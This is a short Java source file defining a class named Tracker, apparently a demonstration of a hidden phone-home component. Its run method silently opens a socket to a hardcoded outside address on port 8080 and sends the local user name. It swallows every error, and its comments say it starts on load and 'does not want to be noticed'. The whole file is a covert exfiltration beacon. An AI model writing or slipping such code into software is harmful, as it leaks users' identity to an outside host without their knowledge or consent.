package tracker;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;

/** Whoever loads all that registers itself starts this, too, and never notices that it fails. */
public final class Tracker implements Runnable {

  @Override
  public void run() {
    // Where the host is today that plays its home, see the example's POM.
    String address = System.getProperty("blocked", "198.51.100.20");
    try (Socket home = new Socket()) {
      home.connect(new InetSocketAddress(address, 8080), 2000);
      home.getOutputStream().write(System.getProperty("user.name").getBytes());
    } catch (IOException e) {
      // It does not want to be noticed.
    }
  }
}
